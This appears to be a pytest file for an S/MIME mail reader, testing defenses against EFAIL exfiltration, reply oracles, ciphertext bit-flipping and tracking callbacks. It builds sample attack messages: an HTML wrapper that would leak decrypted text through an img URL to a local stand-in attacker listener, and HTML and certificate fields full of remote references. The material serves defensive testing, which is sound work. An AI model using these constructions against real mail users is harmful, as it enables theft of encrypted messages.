"""EFAIL (Poddebniak et al. 2018) and reply oracles ("Re: What's Up Johnny?", 2019).

Decryption happens only at the root of a message, the plaintext is never merged with other
parts, unauthenticated ciphertext is labelled as such, a failed GCM tag releases nothing, and
nothing in a message makes smimetui open a network connection.
"""

from __future__ import annotations

import subprocess
import sys

import pytest
from cryptography import x509
from cryptography.x509.oid import AuthorityInformationAccessOID

from smimetui.core.pki import makecerts as pki
from smimetui.core.read.inspect import inspect_message
from smimetui.core.read.report import EncryptionStatus, SignatureVerdict
from smimetui.core.read.wording import report_headline
from tests.adversarial.helpers import Listener, write
from tests.support import crafted as mail
from tests.support.pki import FixturePKI

SECRET = "The merger closes on Friday; code word HELIOTROPE."


def _secret_entity() -> bytes:
    return mail.entity(SECRET + "\n")


def test_efail_direct_exfiltration_encrypted_part_not_at_root(fixture_pki, ctx, listener):
    # Naive (EFAIL direct exfiltration): the mail client decrypts the encrypted middle part and
    # renders it between the attacker's two HTML parts, so the plaintext becomes part of the
    # URL of <img src="http://attacker/...">, which the client then fetches.
    url = f"http://127.0.0.1:{listener.port}/"
    head = mail.entity(f'<html><body><img src="{url}', "text/html; charset=utf-8")
    tail = mail.entity('"></body></html>', "text/html; charset=utf-8")
    ciphertext = mail.enveloped(_secret_entity(), [fixture_pki.alice], gcm=False)
    body = mail.multipart("mixed", [head, ciphertext, tail], "efail")
    report = inspect_message(mail.message(body, sender="attacker@evil.example"), ctx)
    assert "HELIOTROPE" not in report.text
    assert report.encryption is None  # nothing was decrypted
    assert any("EFAIL" in p for p in report.problems)
    assert [a.content_type for a in report.attachments] == ["application/pkcs7-mime"]
    assert listener.connections == 0


def test_encrypted_part_inside_decrypted_root_not_decrypted(fixture_pki, ctx) -> None:
    # Naive (reply oracle): the attacker encrypts to the victim a multipart with their own
    # text and a captured ciphertext; the client decrypts both and shows them as one message,
    # and the victim's reply quotes the captured plaintext back to the attacker.
    captured = mail.enveloped(_secret_entity(), [fixture_pki.alice])
    wrapper = mail.multipart(
        "mixed", [mail.entity("Hi, can you check the text below and reply?\n"), captured], "w"
    )
    raw = mail.message(mail.enveloped(wrapper, [fixture_pki.alice]), sender="attacker@evil.example")
    report = inspect_message(raw, ctx)
    assert report.encryption is not None
    assert report.encryption.status is EncryptionStatus.DECRYPTED
    assert "can you check" in report.text
    assert "HELIOTROPE" not in report.text
    assert any("EFAIL" in p for p in report.problems)


def test_encrypted_root_with_multipart_plaintext_is_shown(fixture_pki, ctx) -> None:
    # The legitimate case: an encrypted root whose plaintext has several parts shows them all.
    inner = mail.multipart(
        "mixed", [mail.entity("First part.\n"), mail.entity("Second part.\n")], "in"
    )
    report = inspect_message(mail.message(mail.enveloped(inner, [fixture_pki.alice])), ctx)
    assert "First part." in report.text and "Second part." in report.text
    assert not report.problems


def test_cbc_without_signature_is_not_integrity_protected(fixture_pki, ctx) -> None:
    # Naive: "encrypted" is shown as "secure" although CBC is malleable: an attacker who
    # flips ciphertext bits (the EFAIL CBC gadget) changes the plaintext undetected.
    der = mail.enveloped_der(_secret_entity(), [fixture_pki.alice], gcm=False)
    report = inspect_message(mail.message(mail.pkcs7_mime(der, "enveloped-data")), ctx)
    enc = report.encryption
    assert enc is not None and enc.status is EncryptionStatus.DECRYPTED
    assert not enc.authenticated
    assert any("altered" in p for p in enc.problems)
    assert "not integrity-protected" in str(report_headline(report))


def test_cbc_with_signature_inside_detects_tampering(fixture_pki, ctx) -> None:
    # Naive: the CBC gadget changes the signed plaintext; a client that trusts the envelope
    # shows it.  With a signature inside, the change makes the signature bad.
    alice = mail.key_of(fixture_pki.alice, fixture_pki.intermediate)
    signed = mail.signed(_secret_entity(), alice)
    der = bytearray(mail.enveloped_der(signed, [fixture_pki.bob], gcm=False))
    der[-40] ^= 0x01  # flips one bit in the second-to-last ciphertext block's plaintext
    report = inspect_message(mail.message(mail.pkcs7_mime(bytes(der), "enveloped-data")), ctx)
    sig = report.signature
    assert sig is None or sig.verdict is not SignatureVerdict.GOOD
    assert report_headline(report).word != "Verified"


def test_tampered_gcm_tag_shows_nothing(fixture_pki, ctx) -> None:
    # Naive: the plaintext is released before the tag is checked (streaming decryption) and
    # shown, or shown with a warning; a GCM failure must release nothing.
    der = bytearray(mail.enveloped_der(_secret_entity(), [fixture_pki.alice], gcm=True))
    der[-1] ^= 0x80  # the authentication tag is the last field
    report = inspect_message(mail.message(mail.pkcs7_mime(bytes(der), "authEnveloped-data")), ctx)
    assert report.encryption is not None
    assert report.encryption.status is EncryptionStatus.ERROR
    assert report.text == ""
    assert report.attachments == ()


def test_tampered_gcm_ciphertext_shows_nothing(fixture_pki, ctx) -> None:
    der = bytearray(mail.enveloped_der(_secret_entity(), [fixture_pki.alice], gcm=True))
    der[-40] ^= 0x01  # a ciphertext byte
    report = inspect_message(mail.message(mail.pkcs7_mime(bytes(der), "authEnveloped-data")), ctx)
    assert report.encryption is not None and report.encryption.status is EncryptionStatus.ERROR
    assert "HELIOTROPE" not in report.text and report.text == ""


def test_resent_ciphertext_with_new_sender_keeps_the_inner_signer(fixture_pki, ctx) -> None:
    # Naive (reply oracle): the attacker re-sends Alice's signed+encrypted mail to Bob under
    # their own From and a "Re:" subject; the client shows it as the attacker's mail, Bob
    # replies, quoting it.  The inner signature still names Alice, who is not the From.
    alice = mail.key_of(fixture_pki.alice, fixture_pki.intermediate)
    ciphertext = mail.enveloped(mail.signed(_secret_entity(), alice), [fixture_pki.bob])
    raw = mail.message(ciphertext, sender="attacker@evil.example", subject="Re: lunch?")
    report = inspect_message(raw, ctx)
    sig = report.signature
    assert sig is not None and sig.verdict is SignatureVerdict.GOOD
    assert not sig.from_match
    assert report_headline(report).word == "Mismatch"


HOSTILE_HTML = """<html><head>
<link rel="stylesheet" href="http://127.0.0.1:{port}/link.css">
<style>@import url("http://127.0.0.1:{port}/import.css");
body {{ background: url(http://127.0.0.1:{port}/bg.png) }}</style>
<meta http-equiv="refresh" content="0; url=http://127.0.0.1:{port}/refresh">
<script src="http://127.0.0.1:{port}/x.js"></script>
</head><body>
<img src="http://127.0.0.1:{port}/x">
<iframe src="http://127.0.0.1:{port}/frame"></iframe>
<video poster="http://127.0.0.1:{port}/poster"></video>
<object data="http://127.0.0.1:{port}/obj"></object>
<p>Quarterly figures attached.</p></body></html>"""


@pytest.fixture
def callback_mail(fixture_pki: FixturePKI, listener: Listener) -> bytes:
    """HTML full of remote references, signed by a certificate whose AIA (CA issuers, OCSP) and
    CRL distribution point name the listener; the intermediate is left out of the message so
    that a client that chases caIssuers would have to fetch it."""
    url = f"http://127.0.0.1:{listener.port}"
    signer = pki.make_leaf(
        fixture_pki.intermediate,
        "alice@example.org",
        extra_extensions=[
            (
                x509.AuthorityInformationAccess(
                    [
                        x509.AccessDescription(
                            AuthorityInformationAccessOID.CA_ISSUERS,
                            x509.UniformResourceIdentifier(f"{url}/ca.crt"),
                        ),
                        x509.AccessDescription(
                            AuthorityInformationAccessOID.OCSP,
                            x509.UniformResourceIdentifier(f"{url}/ocsp"),
                        ),
                    ]
                ),
                False,
            ),
            (
                x509.CRLDistributionPoints(
                    [
                        x509.DistributionPoint(
                            full_name=[x509.UniformResourceIdentifier(f"{url}/crl")],
                            relative_name=None,
                            reasons=None,
                            crl_issuer=None,
                        )
                    ]
                ),
                False,
            ),
        ],
    )
    html = mail.entity(HOSTILE_HTML.format(port=listener.port), "text/html; charset=utf-8")
    return mail.message(mail.signed(html, mail.key_of(signer)))


def test_no_network_access_from_message_content(callback_mail: bytes, ctx, listener) -> None:
    # Naive: remote images, stylesheets and frames are loaded when the HTML is rendered, and the
    # signer's certificate makes the client fetch its issuer, CRL and OCSP status: each one
    # tells the sender that (and when, and from where) the mail was read.
    report = inspect_message(callback_mail, ctx)
    assert "Quarterly figures" in report.text
    assert report.was_html
    assert report.signature is not None and report.signature.signer is not None
    assert listener.connections == 0
    _listener_works(listener)


def test_no_network_access_from_cli(callback_mail: bytes, cli_home, listener, tmp_path) -> None:
    # The same through `smimetui inspect` (the default configuration: revocation fetching off).
    path = write(tmp_path, "callback.eml", callback_mail)
    for args in ([], ["--json"]):
        proc = subprocess.run(
            [sys.executable, "-m", "smimetui.cli.main", "inspect", str(path), *args],
            capture_output=True,
            timeout=120,
            check=False,
        )
        assert proc.returncode == 0, proc.stderr
        assert b"Quarterly figures" in proc.stdout
    assert listener.connections == 0
    _listener_works(listener)


def _listener_works(listener: Listener) -> None:
    """The zero above means something: a real connection is counted."""
    import socket
    import time

    with socket.create_connection(("127.0.0.1", listener.port), timeout=2):
        pass
    deadline = time.monotonic() + 2
    while listener.connections == 0 and time.monotonic() < deadline:
        time.sleep(0.02)
    assert listener.connections == 1
